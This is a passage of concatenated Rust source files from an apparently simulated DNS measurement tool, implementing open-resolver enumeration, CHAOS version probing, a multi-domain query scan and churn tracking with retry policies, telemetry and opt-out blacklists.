    // empty, wait out the (adaptive) timeout, re-collect. The native
    // sweep above is untouched — with `attempts == 1` this loop never
    // runs and the campaign's traffic is byte-identical to before.
    let mut retries = 0u64;
    if policy.attempts > 1 {
        let mut est = RttEstimator::new();
        let schedule = policy.schedule(seed ^ 0xC4A05);
        txid_map.clear();
        for round in 0..(policy.attempts - 1) as usize {
            let mut missing: Vec<(Ipv4Addr, usize)> = Vec::new();
            for &ip in resolvers {
                for (which, slot) in results[&ip].iter().enumerate() {
                    if slot.is_none() {
                        missing.push((ip, which));
                    }
                }
            }
            if missing.is_empty() {
                break;
            }
            telemetry::recorder::set_context("chaos", round as u32 + 2);
            let sent_at = world.now().millis();
            for &(ip, which) in &missing {
                let txid = (seed as u16).wrapping_add(seq as u16);
                let msg = MessageBuilder::chaos_query(txid, qnames[which].clone()).build();
                txid_map.insert(txid, (ip, which));
                if let Some(asns) = &asn_of {
                    let asn = asns.get(&ip).copied().unwrap_or(0);
                    telemetry::recorder::attempt(u32::from(ip), asn, world.now().millis());
                }
                scanner.send(world, (seq % 509) as u16, ip, msg.encode());
                seq += 1;
                pending += 1;
                if pending == BATCH {
                    pending = 0;
                    scanner.pump(world, 400);
                    collect(
                        world,
                        &scanner,
                        &mut txid_map,
                        &mut results,
                        Some((sent_at, &mut est)),
                    );
                }
                if seq.is_multiple_of(60_000) {
                    scanner.pump(world, 5_000);
                    collect(
                        world,
                        &scanner,
                        &mut txid_map,
                        &mut results,
                        Some((sent_at, &mut est)),
                    );
                    txid_map.clear();
                }
            }
            retries += missing.len() as u64;
            let wait = policy.wait_ms(round, &schedule, &est);
            telemetry::recorder::backoff(round as u32, wait, world.now().millis());
            scanner.pump(world, wait);
            collect(
                world,
                &scanner,
                &mut txid_map,
                &mut results,
                Some((sent_at, &mut est)),
            );
            txid_map.clear();
        }
    }

    if let Some(asns) = &asn_of {
        let now = world.now().millis();
        for (&ip, slots) in &results {
            if slots.iter().all(Option::is_none) {
                let asn = asns.get(&ip).copied().unwrap_or(0);
                telemetry::recorder::gave_up(u32::from(ip), asn, policy.attempts, now);
            }
        }
    }
    telemetry::recorder::clear_context();

    let out: HashMap<Ipv4Addr, ChaosObservation> = results
        .into_iter()
        .map(|(ip, slots)| (ip, classify(slots)))
        .collect();

    let silent = out
        .values()
        .filter(|o| **o == ChaosObservation::Silent)
        .count() as u64;
    let responders = out.len() as u64 - silent;
    let reg = telemetry::global();
    let chaos = [("campaign", "chaos")];
    reg.counter_with("scanner.probes_sent", &chaos)
        .add(seq as u64);
    reg.counter_with("scanner.responses", &chaos)
        .add(responders);
    reg.counter("scanner.chaos_silent").add(silent);
    if retries > 0 {
        reg.counter_with("scanner.retries", &chaos).add(retries);
    }
    sp.attr("probes_sent", seq as u64);
    sp.attr("responders", responders);
    sp.attr("silent", silent);
    sp.attr("retries", retries);
    sp.finish(world.now().millis());
    (out, retries)
}

/// Like [`chaos_scan`], but also writes each responding resolver into
/// `sink` as an [`scanstore::Observation`] with the CHAOS outcome in
/// its flag bits and the version string interned into `software`.
/// Silent resolvers produce no record, matching the scan's return map.
pub fn chaos_scan_with_sink(
    world: &mut World,
    vantage: Ipv4Addr,
    resolvers: &[Ipv4Addr],
    seed: u64,
    policy: &ProbePolicy,
    sink: &mut dyn scanstore::ObservationSink,
) -> (HashMap<Ipv4Addr, ChaosObservation>, u64) {
    use scanstore::{flags, Observation};
    let (observations, retries) = chaos_scan_with_policy(world, vantage, resolvers, seed, policy);
    let now_ms = world.now().millis();
    for (&ip, obs) in &observations {
        let (outcome, software) = match obs {
            ChaosObservation::Silent => continue,
            ChaosObservation::Errors => (flags::CHAOS_ERRORS, 0),
            ChaosObservation::EmptyAnswers => (flags::CHAOS_EMPTY, 0),
            ChaosObservation::Version(v) => (flags::CHAOS_VERSION, sink.intern(v)),
        };
        sink.observe(Observation {
            flags: flags::with_chaos(0, outcome),
            software,
            ..Observation::at(u32::from(ip), Rcode::NoError.to_u8(), now_ms)
        });
    }
    (observations, retries)
}

fn collect(
    world: &mut World,
    scanner: &SimScanner,
    txid_map: &mut HashMap<u16, (Ipv4Addr, usize)>,
    results: &mut HashMap<Ipv4Addr, Vec<Option<Message>>>,
    mut rtt: Option<(u64, &mut RttEstimator)>,
) {
    for (_off, t, dgram) in scanner.drain(world) {
        let Ok(msg) = Message::decode(&dgram.payload) else {
            continue;
        };
        if !msg.header.response {
            continue;
        }
        if let Some(&(ip, which)) = txid_map.get(&msg.header.id) {
            if let Some(slots) = results.get_mut(&ip) {
                if slots[which].is_none() {
                    if telemetry::recorder::enabled() {
                        telemetry::recorder::response(
                            u32::from(ip),
                            msg.header.rcode.to_u8(),
                            t.millis(),
                        );
                    }
                    slots[which] = Some(msg);
                    // Retransmission rounds feed the adaptive-timeout
                    // estimator with observed round trips.
                    if let Some((sent_at, est)) = &mut rtt {
                        est.observe(t.millis().saturating_sub(*sent_at) as f64);
                    }
                }
            }
        }
    }
}

fn classify(slots: Vec<Option<Message>>) -> ChaosObservation {
    let mut any_response = false;
    let mut any_noerror_empty = false;
    for slot in slots.iter().flatten() {
        any_response = true;
        if slot.header.rcode == Rcode::NoError {
            let version = slot
                .answers
                .iter()
                .find_map(|rr| rr.rdata.txt_joined())
                .filter(|s| !s.is_empty());
            match version {
                Some(v) => return ChaosObservation::Version(v),
                None => any_noerror_empty = true,
            }
        }
    }
    if !any_response {
        ChaosObservation::Silent
    } else if any_noerror_empty {
        ChaosObservation::EmptyAnswers
    } else {
        ChaosObservation::Errors
    }
}
