//! The Internet-wide enumeration scan (Sec. 2.2) and the dual-vantage
//! verification scan.

use crate::encode::{target_from_qname, EnumProbeTemplate};
use crate::lfsr::IpPermutation;
use crate::simio::SimScanner;
use dnswire::{Message, Rcode};
use scanstore::{flags, Observation, ObservationSink};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::net::Ipv4Addr;
use worldgen::World;

/// What one target IP answered.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct EnumObservation {
    /// Response code of the first answer.
    pub rcode: Rcode,
    /// The response's UDP source differed from the probed target — a
    /// DNS proxy or multi-homed host (630k–750k per week in the paper).
    pub answered_from_other_ip: bool,
    /// A-record answers (empty for error rcodes / empty answers).
    pub answers: Vec<Ipv4Addr>,
}

/// Result of one enumeration scan.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct EnumerationResult {
    /// Keyed by the *probed target* (recovered from the hex-IP label,
    /// not the response source).
    pub observations: HashMap<Ipv4Addr, EnumObservation>,
    /// Probes actually sent (excludes blacklisted skips).
    pub probes_sent: u64,
    /// Addresses skipped because their operators opted out (Sec. 2.2).
    pub skipped_blacklisted: u64,
}

impl EnumerationResult {
    /// Responding-host counts per rcode mnemonic, plus `"ALL"`.
    pub fn counts(&self) -> HashMap<&'static str, u64> {
        let mut out: HashMap<&'static str, u64> = HashMap::new();
        for obs in self.observations.values() {
            *out.entry(obs.rcode.mnemonic()).or_insert(0) += 1;
            *out.entry("ALL").or_insert(0) += 1;
        }
        out
    }

    /// Targets that answered NOERROR — the open-resolver fleet fed to
    /// every downstream campaign.
    pub fn noerror_ips(&self) -> Vec<Ipv4Addr> {
        let mut v: Vec<Ipv4Addr> = self
            .observations
            .iter()
            .filter(|(_, o)| o.rcode == Rcode::NoError)
            .map(|(ip, _)| *ip)
            .collect();
        v.sort_unstable();
        v
    }

    /// Count of proxy/multi-homed responders.
    pub fn mismatched_sources(&self) -> u64 {
        self.observations
            .values()
            .filter(|o| o.answered_from_other_ip)
            .count() as u64
    }
}

/// Scan every address in `world`'s allocated space from `vantage`,
/// LFSR-permuted, in rate-limited batches.
pub fn enumerate(world: &mut World, vantage: Ipv4Addr, seed: u64) -> EnumerationResult {
    enumerate_with_sink(world, vantage, seed, &mut scanstore::NullSink)
}

/// Like [`enumerate`], but streams each first-response observation into
/// `sink` as it is collected, so a snapshot store sees the scan as it
/// happens instead of after the fact.
pub fn enumerate_with_sink(
    world: &mut World,
    vantage: Ipv4Addr,
    seed: u64,
    sink: &mut dyn ObservationSink,
) -> EnumerationResult {
    let zone = world.catalog.scan_zone.clone();
    let ranges = world.scannable_ranges().to_vec();
    // Honor opt-out requests: blacklisted addresses are never probed
    // and therefore never appear in any result (Sec. 2.2).
    let blacklist = crate::Blacklist::new(
        world.blacklist_ranges.clone(),
        world.blacklist_singles.clone(),
    );
    let scanner = SimScanner::open(world, vantage);
    let perm = IpPermutation::new(&ranges, seed);
    let tmpl = EnumProbeTemplate::new(&zone, seed);
    let mut sp = telemetry::span("campaign.enumerate", world.now().millis());

    let mut result = EnumerationResult::default();
    const BATCH: usize = 4_096;
    let mut batch_count = 0usize;
    for target in perm {
        if blacklist.contains(target) {
            result.skipped_blacklisted += 1;
            continue;
        }
        scanner.send(world, 0, target, tmpl.probe(target));
        result.probes_sent += 1;
        batch_count += 1;
        if batch_count == BATCH {
            batch_count = 0;
            scanner.pump(world, 500);
            collect(world, &scanner, &mut result, sink);
        }
    }
    // Grace period for stragglers.
    scanner.pump(world, 5_000);
    collect(world, &scanner, &mut result, sink);
    scanner.close(world);

    let reg = telemetry::global();
    let enumerate = [("campaign", "enumerate")];
    reg.counter_with("scanner.probes_sent", &enumerate)
        .add(result.probes_sent);
    reg.counter("scanner.blacklist_skips")
        .add(result.skipped_blacklisted);
    let responders = result.observations.len() as u64;
    reg.counter_with("scanner.timeouts", &enumerate)
        .add(result.probes_sent.saturating_sub(responders));
    // Sorted so labeled counters register in a stable order.
    let mut by_rcode: Vec<(&str, u64)> = result
        .counts()
        .into_iter()
        .filter(|&(mnemonic, _)| mnemonic != "ALL")
        .collect();
    by_rcode.sort_unstable();
    for (mnemonic, n) in by_rcode {
        reg.counter_with(
            "scanner.responses",
            &[("campaign", "enumerate"), ("rcode", mnemonic)],
        )
        .add(n);
    }
    sp.attr("probes_sent", result.probes_sent);
    sp.attr("responders", responders);
    sp.attr("blacklist_skips", result.skipped_blacklisted);
    sp.finish(world.now().millis());
    result
}

fn collect(
    world: &mut World,
    scanner: &SimScanner,
    result: &mut EnumerationResult,
    sink: &mut dyn ObservationSink,
) {
    let now_ms = world.now().millis();
    for (_off, _t, dgram) in scanner.drain(world) {
        let Ok(msg) = Message::decode(&dgram.payload) else {
            continue; // corrupted packets are ignored (Sec. 5)
        };
        if !msg.header.response || msg.questions.is_empty() {
            continue;
        }
        let Some(target) = target_from_qname(&msg.questions[0].qname) else {
            continue;
        };
        let obs = EnumObservation {
            rcode: msg.header.rcode,
            answered_from_other_ip: dgram.src_ip != target,
            answers: msg.answer_ips(),
        };
        // First response wins (clients behave the same way).
        if let std::collections::hash_map::Entry::Vacant(e) = result.observations.entry(target) {
            sink.observe(Observation {
                flags: if obs.answered_from_other_ip {
                    flags::PROXY
                } else {
                    0
                },
                ..Observation::at(u32::from(target), obs.rcode.to_u8(), now_ms)
            });
            e.insert(obs);
        }
    }
}

/// Dual-vantage verification (Sec. 2.2): scan from the secondary /8 and
/// report hosts visible there but not in `primary`.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct VerificationReport {
    /// Hosts answering the verification scan but absent from the weekly
    /// scan, per rcode mnemonic.
    pub only_secondary: HashMap<String, u64>,
    /// NOERROR hosts missed by the primary scan.
    pub missed_noerror: u64,
    /// NOERROR hosts found by the primary scan.
    pub primary_noerror: u64,
}

/// Run the verification scan and diff against `primary`.
pub fn verify_scan(
    world: &mut World,
    primary: &EnumerationResult,
    seed: u64,
) -> VerificationReport {
    let vantage2 = world.scanner2_ip;
    let secondary = enumerate(world, vantage2, seed ^ 0x5EC0);
    let mut report = VerificationReport {
        primary_noerror: primary
            .observations
            .values()
            .filter(|o| o.rcode == Rcode::NoError)
            .count() as u64,
        ..Default::default()
    };
    for (ip, obs) in &secondary.observations {
        if !primary.observations.contains_key(ip) {
            *report
                .only_secondary
                .entry(obs.rcode.mnemonic().to_string())
                .or_insert(0) += 1;
            if obs.rcode == Rcode::NoError {
                report.missed_noerror += 1;
            }
        }
    }
    report
}
