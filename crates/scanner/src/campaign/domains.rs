//! The 155-domain scan (Sec. 3.3): A queries for every catalog domain
//! at every open resolver, with the 25-bit resolver-identifier encoding.

use crate::encode::{decode_probe, encode_probe};
use crate::probe::{ProbePolicy, RttEstimator};
use crate::simio::{SimScanner, BASE_PORT};
use dnswire::{Message, MessageBuilder, Rcode, RecordType};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::net::Ipv4Addr;
use worldgen::World;

/// One correlated DNS response from the domain scan.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TupleObs {
    /// Index into the scanned resolver list.
    pub resolver_idx: u32,
    /// Address the probe was sent to.
    pub resolver_ip: Ipv4Addr,
    /// Index into the scanned domain list.
    pub domain_idx: u16,
    /// Response code.
    pub rcode: Rcode,
    /// Answer A records.
    pub ips: Vec<Ipv4Addr>,
    /// 0 for the first response to this (resolver, domain) probe, 1 for
    /// the second, … — the GFW double-answer signature lives here.
    pub response_ordinal: u8,
    /// Source address of the response datagram.
    pub src_ip: Ipv4Addr,
    /// NOERROR with no A answers but NS records in the authority
    /// section — recursion effectively denied (Sec. 4.1: 2.0%).
    pub ns_only: bool,
}

/// Stream the domain scan's correlated responses into `sink`.
///
/// Queries go out domain-by-domain (the paper scans one category at a
/// time to bound per-AuthNS load); each probe encodes the resolver index
/// in TXID + source port + 0x20 casing.
pub fn scan_domains_streaming(
    world: &mut World,
    vantage: Ipv4Addr,
    resolvers: &[Ipv4Addr],
    domains: &[String],
    seed: u64,
    sink: &mut dyn FnMut(TupleObs),
) {
    scan_domains_streaming_with_policy(
        world,
        vantage,
        resolvers,
        domains,
        seed,
        &ProbePolicy::single(),
        sink,
    );
}

/// [`scan_domains_streaming`] under an explicit [`ProbePolicy`]:
/// (resolver, domain) probes with no response after the per-domain
/// grace are retransmitted in backed-off rounds before the scan moves
/// to the next domain. Returns the number of retransmissions sent. A
/// single-attempt policy is byte-identical to [`scan_domains_streaming`].
pub fn scan_domains_streaming_with_policy(
    world: &mut World,
    vantage: Ipv4Addr,
    resolvers: &[Ipv4Addr],
    domains: &[String],
    seed: u64,
    policy: &ProbePolicy,
    sink: &mut dyn FnMut(TupleObs),
) -> u64 {
    assert!(
        resolvers.len() < (1 << crate::encode::ID_BITS),
        "resolver list exceeds the 25-bit identifier space"
    );
    let scanner = SimScanner::open(world, vantage);
    // Response ordinals per (resolver, domain).
    let mut ordinals: HashMap<(u32, u16), u8> = HashMap::new();
    let mut retries = 0u64;

    for (di, domain) in domains.iter().enumerate() {
        let mut sent = 0usize;
        for (ri, &ip) in resolvers.iter().enumerate() {
            let p = encode_probe(ri as u32, domain);
            let msg = MessageBuilder::query(p.txid, p.qname.clone(), RecordType::A).build();
            scanner.send(world, p.port_offset, ip, msg.encode());
            sent += 1;
            if sent.is_multiple_of(4_096) {
                scanner.pump(world, 400);
                collect(world, &scanner, resolvers, domains, di, &mut ordinals, sink);
            }
        }
        // Per-domain grace so cross-domain TXID collisions cannot happen.
        scanner.pump(world, 4_000);
        collect(world, &scanner, resolvers, domains, di, &mut ordinals, sink);

        // Retransmission rounds: probes are identity-encoded (TXID +
        // port + casing carry the resolver index), so a resend is the
        // same datagram — only the later send time re-rolls its fate.
        // With `attempts == 1` this loop never runs.
        if policy.attempts > 1 {
            let est = RttEstimator::new();
            let schedule = policy.schedule(seed ^ 0xD0_0A15 ^ (di as u64) << 16);
            for round in 0..(policy.attempts - 1) as usize {
                let missing: Vec<usize> = (0..resolvers.len())
                    .filter(|&ri| !ordinals.contains_key(&(ri as u32, di as u16)))
                    .collect();
                if missing.is_empty() {
                    break;
                }
                let mut batch = 0usize;
                for &ri in &missing {
                    let p = encode_probe(ri as u32, domain);
                    let msg = MessageBuilder::query(p.txid, p.qname.clone(), RecordType::A).build();
                    scanner.send(world, p.port_offset, resolvers[ri], msg.encode());
                    batch += 1;
                    if batch.is_multiple_of(4_096) {
                        scanner.pump(world, 400);
                        collect(world, &scanner, resolvers, domains, di, &mut ordinals, sink);
                    }
                }
                retries += missing.len() as u64;
                scanner.pump(world, policy.wait_ms(round, &schedule, &est));
                collect(world, &scanner, resolvers, domains, di, &mut ordinals, sink);
            }
        }
        let _ = seed;
    }
    if retries > 0 {
        telemetry::global()
            .counter_with("scanner.retries", &[("campaign", "domains")])
            .add(retries);
    }
    retries
}

/// Convenience: collect all tuples into a vector (tests, small scans).
pub fn scan_domains(
    world: &mut World,
    vantage: Ipv4Addr,
    resolvers: &[Ipv4Addr],
    domains: &[String],
    seed: u64,
) -> Vec<TupleObs> {
    let mut out = Vec::new();
    scan_domains_streaming(world, vantage, resolvers, domains, seed, &mut |t| {
        out.push(t)
    });
    out
}

#[allow(clippy::too_many_arguments)]
fn collect(
    world: &mut World,
    scanner: &SimScanner,
    resolvers: &[Ipv4Addr],
    domains: &[String],
    current_domain: usize,
    ordinals: &mut HashMap<(u32, u16), u8>,
    sink: &mut dyn FnMut(TupleObs),
) {
    for (port_offset, _t, dgram) in scanner.drain(world) {
        let Ok(msg) = Message::decode(&dgram.payload) else {
            continue;
        };
        if !msg.header.response || msg.questions.is_empty() {
            continue;
        }
        let Some(id) = decode_probe(&msg, Some(port_offset)) else {
            continue;
        };
        let ri = id as usize;
        if ri >= resolvers.len() {
            continue; // spoofed or corrupt
        }
        // Identify the domain from the echoed question.
        let qname = msg.questions[0].qname.to_ascii_lower();
        let Some(di) = domain_index(domains, current_domain, &qname) else {
            continue;
        };
        let key = (id, di as u16);
        let ordinal = ordinals.entry(key).or_insert(0);
        let ips = msg.answer_ips();
        let ns_only = ips.is_empty()
            && msg.header.rcode == dnswire::Rcode::NoError
            && msg
                .authorities
                .iter()
                .any(|rr| rr.rtype == dnswire::RecordType::Ns);
        let obs = TupleObs {
            resolver_idx: id,
            resolver_ip: resolvers[ri],
            domain_idx: di as u16,
            rcode: msg.header.rcode,
            ips,
            response_ordinal: *ordinal,
            src_ip: dgram.src_ip,
            ns_only,
        };
        *ordinal = ordinal.saturating_add(1);
        sink(obs);
    }
}

/// Find the scanned domain matching the echoed qname, checking the
/// in-flight domain first (the common case).
fn domain_index(domains: &[String], current: usize, qname: &str) -> Option<usize> {
    if current < domains.len() && domains[current] == qname {
        return Some(current);
    }
    domains.iter().position(|d| d == qname)
}

/// Port-block base, re-exported for response-side tooling.
pub const DOMAIN_SCAN_BASE_PORT: u16 = BASE_PORT;
