//! Measurement campaigns.

pub mod acquire;
pub mod banner;
pub mod chaos;
pub mod churn;
pub mod domains;
pub mod enumerate;
pub mod snoop;
