//! Cohort churn tracking (Sec. 2.5 / Figure 2).
//!
//! Track the resolvers discovered in the first scan by their *IP
//! addresses*: re-probe the same addresses over time and count how many
//! still provide DNS resolutions, plus the day-one measurement and the
//! dynamic-rDNS attribution of early leavers.

use crate::encode::{enumeration_query, target_from_qname};
use crate::simio::SimScanner;
use dnswire::{Message, Rcode};
use netsim::SimTime;
use serde::{Deserialize, Serialize};
use std::collections::HashSet;
use std::net::Ipv4Addr;
use worldgen::World;

/// The churn experiment's outputs.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct ChurnResult {
    /// Cohort size at week 0.
    pub cohort: u64,
    /// `survivors[w]` = cohort addresses still answering NOERROR at week
    /// `w+1` (weekly re-probes).
    pub survivors: Vec<u64>,
    /// Addresses still answering after one day.
    pub day1_survivors: u64,
    /// Of the day-one leavers with rDNS records: how many carry dynamic
    /// tokens, and how many had records at all.
    pub day1_leavers_dynamic_rdns: u64,
    /// Day-one leavers with any rDNS record.
    pub day1_leavers_with_rdns: u64,
}

impl ChurnResult {
    /// Fraction of the cohort alive at week `w` (1-based).
    pub fn survival_at_week(&self, w: usize) -> f64 {
        if self.cohort == 0 || w == 0 || w > self.survivors.len() {
            return 0.0;
        }
        self.survivors[w - 1] as f64 / self.cohort as f64
    }
}

/// Probe `cohort` addresses and return those answering NOERROR.
fn probe_alive(
    world: &mut World,
    vantage: Ipv4Addr,
    cohort: &[Ipv4Addr],
    seed: u64,
) -> HashSet<Ipv4Addr> {
    let zone = world.catalog.scan_zone.clone();
    let scanner = SimScanner::open(world, vantage);
    const BATCH: usize = 4_096;
    let mut alive = HashSet::new();
    let mut sent = 0usize;
    for &ip in cohort {
        let (msg, _) = enumeration_query(ip, &zone, seed);
        scanner.send(world, 0, ip, msg.encode());
        sent += 1;
        if sent.is_multiple_of(BATCH) {
            scanner.pump(world, 500);
            collect_alive(world, &scanner, &mut alive);
        }
    }
    scanner.pump(world, 5_000);
    collect_alive(world, &scanner, &mut alive);
    alive
}

fn collect_alive(world: &mut World, scanner: &SimScanner, alive: &mut HashSet<Ipv4Addr>) {
    for (_o, _t, d) in scanner.drain(world) {
        let Ok(msg) = Message::decode(&d.payload) else {
            continue;
        };
        if msg.header.response && msg.header.rcode == Rcode::NoError && !msg.questions.is_empty() {
            if let Some(target) = target_from_qname(&msg.questions[0].qname) {
                alive.insert(target);
            }
        }
    }
}

/// Run the full churn experiment: day-one probe, then weekly probes for
/// `weeks` weeks. Advances world time as it goes.
pub fn track_cohort(
    world: &mut World,
    vantage: Ipv4Addr,
    cohort: &[Ipv4Addr],
    weeks: u32,
    seed: u64,
) -> ChurnResult {
    let mut result = ChurnResult {
        cohort: cohort.len() as u64,
        ..Default::default()
    };

    // Day 1.
    let t0 = world.now();
    world.advance_to(SimTime(t0.millis() + SimTime::DAY));
    let alive_day1 = probe_alive(world, vantage, cohort, seed ^ 0xD1);
    result.day1_survivors = alive_day1.len() as u64;
    for &ip in cohort {
        if !alive_day1.contains(&ip) {
            if let Some(_name) = world.rdns.lookup(ip) {
                result.day1_leavers_with_rdns += 1;
                if world.rdns.is_dynamic(ip) {
                    result.day1_leavers_dynamic_rdns += 1;
                }
            }
        }
    }

    // Weekly probes.
    for w in 1..=weeks {
        world.advance_to(SimTime(t0.millis() + w as u64 * SimTime::WEEK));
        let alive = probe_alive(world, vantage, cohort, seed ^ (w as u64) << 8);
        result.survivors.push(alive.len() as u64);
    }
    result
}
