//! Cohort churn tracking (Sec. 2.5 / Figure 2).
//!
//! Track the resolvers discovered in the first scan by their *IP
//! addresses*: re-probe the same addresses over time and count how many
//! still provide DNS resolutions, plus the day-one measurement and the
//! dynamic-rDNS attribution of early leavers.
//!
//! The campaign streams into a [`SnapshotSink`] — one snapshot per
//! probe round (`cohort`, `day1`, `week-1`…) — and the Figure 2 numbers
//! are derived back out of any [`SnapshotSource`] by
//! [`churn_from_source`], so a reopened on-disk store yields the same
//! report as the live run. Already-committed rounds are skipped on
//! resume.

use crate::encode::{target_from_qname, EnumProbeTemplate};
use crate::probe::{ProbePolicy, RttEstimator};
use crate::simio::SimScanner;
use dnswire::{Message, Rcode};
use netsim::SimTime;
use scanstore::{Observation, SnapshotSink, SnapshotSource};
use serde::{Deserialize, Serialize};
use std::collections::HashSet;
use std::io;
use std::net::Ipv4Addr;
use worldgen::World;

/// The churn experiment's outputs.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct ChurnResult {
    /// Cohort size at week 0.
    pub cohort: u64,
    /// `survivors[w]` = cohort addresses still answering NOERROR at week
    /// `w+1` (weekly re-probes).
    pub survivors: Vec<u64>,
    /// Addresses still answering after one day.
    pub day1_survivors: u64,
    /// Of the day-one leavers with rDNS records: how many carry dynamic
    /// tokens, and how many had records at all.
    pub day1_leavers_dynamic_rdns: u64,
    /// Day-one leavers with any rDNS record.
    pub day1_leavers_with_rdns: u64,
}

impl ChurnResult {
    /// Fraction of the cohort alive at week `w` (1-based).
    pub fn survival_at_week(&self, w: usize) -> f64 {
        if self.cohort == 0 || w == 0 || w > self.survivors.len() {
            return 0.0;
        }
        self.survivors[w - 1] as f64 / self.cohort as f64
    }
}

/// Probe `cohort` addresses and return those answering NOERROR.
///
/// Public so campaign drivers (the bundle engine) can schedule churn
/// rounds at their own anchors; [`track_cohort_with_sink`] composes the
/// same pieces on a relative schedule.
pub fn probe_alive(
    world: &mut World,
    vantage: Ipv4Addr,
    cohort: &[Ipv4Addr],
    seed: u64,
) -> HashSet<Ipv4Addr> {
    probe_alive_with_policy(world, vantage, cohort, seed, &ProbePolicy::single()).0
}

/// [`probe_alive`] under an explicit [`ProbePolicy`]: addresses that
/// stayed silent are re-probed in backed-off retransmission rounds.
/// Returns the alive set and the number of retransmissions sent. A
/// single-attempt policy is byte-identical to [`probe_alive`].
pub fn probe_alive_with_policy(
    world: &mut World,
    vantage: Ipv4Addr,
    cohort: &[Ipv4Addr],
    seed: u64,
    policy: &ProbePolicy,
) -> (HashSet<Ipv4Addr>, u64) {
    let zone = world.catalog.scan_zone.clone();
    // When the flight recorder is on, resolve target ASNs once up
    // front and publish the probe context so netsim drop records and
    // our attempt/response records share a campaign/attempt identity.
    let asn_of = recorder_asn_map(world, cohort);
    let scanner = SimScanner::open(world, vantage);
    let tmpl = EnumProbeTemplate::new(&zone, seed);
    const BATCH: usize = 4_096;
    let mut alive = HashSet::new();
    // Every address that answered at all (any rcode) — only tracked
    // while the recorder is on, so give-ups aren't misattributed to
    // resolvers that answered with an error rcode.
    let mut responded = HashSet::new();
    let mut sent = 0usize;
    telemetry::recorder::set_context("churn", 1);
    for &ip in cohort {
        if let Some(asns) = &asn_of {
            let asn = asns.get(&ip).copied().unwrap_or(0);
            telemetry::recorder::attempt(u32::from(ip), asn, world.now().millis());
        }
        scanner.send(world, 0, ip, tmpl.probe(ip));
        sent += 1;
        if sent.is_multiple_of(BATCH) {
            scanner.pump(world, 500);
            collect_alive(world, &scanner, &mut alive, &mut responded);
        }
    }
    scanner.pump(world, 5_000);
    collect_alive(world, &scanner, &mut alive, &mut responded);

    // Retransmission rounds: the probe template is deterministic per
    // target, but resending at a later sim time re-rolls its fate.
    let mut retries = 0u64;
    if policy.attempts > 1 {
        let est = RttEstimator::new();
        let schedule = policy.schedule(seed ^ 0xC4_0412);
        for round in 0..(policy.attempts - 1) as usize {
            let missing: Vec<Ipv4Addr> = cohort
                .iter()
                .copied()
                .filter(|ip| !alive.contains(ip))
                .collect();
            if missing.is_empty() {
                break;
            }
            telemetry::recorder::set_context("churn", round as u32 + 2);
            let mut batch = 0usize;
            for &ip in &missing {
                if let Some(asns) = &asn_of {
                    let asn = asns.get(&ip).copied().unwrap_or(0);
                    telemetry::recorder::attempt(u32::from(ip), asn, world.now().millis());
                }
                scanner.send(world, 0, ip, tmpl.probe(ip));
                batch += 1;
                if batch.is_multiple_of(BATCH) {
                    scanner.pump(world, 500);
                    collect_alive(world, &scanner, &mut alive, &mut responded);
                }
            }
            sent += missing.len();
            retries += missing.len() as u64;
            let wait = policy.wait_ms(round, &schedule, &est);
            telemetry::recorder::backoff(round as u32, wait, world.now().millis());
            scanner.pump(world, wait);
            collect_alive(world, &scanner, &mut alive, &mut responded);
        }
    }
    if let Some(asns) = &asn_of {
        let now = world.now().millis();
        for &ip in cohort
            .iter()
            .filter(|ip| !alive.contains(ip) && !responded.contains(ip))
        {
            let asn = asns.get(&ip).copied().unwrap_or(0);
            telemetry::recorder::gave_up(u32::from(ip), asn, policy.attempts, now);
        }
    }
    telemetry::recorder::clear_context();

    let reg = telemetry::global();
    let churn = [("campaign", "churn")];
    reg.counter_with("scanner.probes_sent", &churn)
        .add(sent as u64);
    reg.counter_with("scanner.responses", &churn)
        .add(alive.len() as u64);
    reg.counter_with("scanner.timeouts", &churn)
        .add((sent as u64).saturating_sub(alive.len() as u64));
    if retries > 0 {
        reg.counter_with("scanner.retries", &churn).add(retries);
    }
    (alive, retries)
}

fn collect_alive(
    world: &mut World,
    scanner: &SimScanner,
    alive: &mut HashSet<Ipv4Addr>,
    responded: &mut HashSet<Ipv4Addr>,
) {
    let record = telemetry::recorder::enabled();
    for (_o, t, d) in scanner.drain(world) {
        let Ok(msg) = Message::decode(&d.payload) else {
            continue;
        };
        if msg.header.response && !msg.questions.is_empty() {
            if let Some(target) = target_from_qname(&msg.questions[0].qname) {
                if record {
                    responded.insert(target);
                    telemetry::recorder::response(
                        u32::from(target),
                        msg.header.rcode.to_u8(),
                        t.millis(),
                    );
                }
                if msg.header.rcode == Rcode::NoError {
                    alive.insert(target);
                }
            }
        }
    }
}

/// Target → ASN map for recorder records; `None` (free) when the
/// flight recorder is off.
pub(crate) fn recorder_asn_map(
    world: &World,
    targets: &[Ipv4Addr],
) -> Option<std::collections::HashMap<Ipv4Addr, u32>> {
    telemetry::recorder::enabled().then(|| {
        let idx = world.responder_index();
        targets
            .iter()
            .filter_map(|&ip| {
                let host = world.net.host_at(ip)?;
                Some((ip, idx.get(&host)?.asn))
            })
            .collect()
    })
}

/// Meta keys carried by the `day1` snapshot.
const META_LEAVERS_RDNS: &str = "day1_leavers_with_rdns";
const META_LEAVERS_DYN: &str = "day1_leavers_dynamic_rdns";

/// The `day1` snapshot's meta pairs: of the cohort addresses that did
/// *not* survive to day one, how many carry rDNS records and how many
/// of those are dynamic-pool tokens (the paper's DHCP-churn evidence).
pub fn day1_leaver_meta(
    world: &World,
    cohort: &[Ipv4Addr],
    alive_day1: &HashSet<Ipv4Addr>,
) -> Vec<(String, String)> {
    let mut with_rdns = 0u64;
    let mut dynamic = 0u64;
    for &ip in cohort {
        if !alive_day1.contains(&ip) && world.rdns.lookup(ip).is_some() {
            with_rdns += 1;
            if world.rdns.is_dynamic(ip) {
                dynamic += 1;
            }
        }
    }
    vec![
        (META_LEAVERS_RDNS.to_string(), with_rdns.to_string()),
        (META_LEAVERS_DYN.to_string(), dynamic.to_string()),
    ]
}

/// Commits the sorted `ips` (all answering NOERROR) as one snapshot.
pub fn commit_round(
    world: &World,
    sink: &mut dyn SnapshotSink,
    ips: impl Iterator<Item = Ipv4Addr>,
    label: &str,
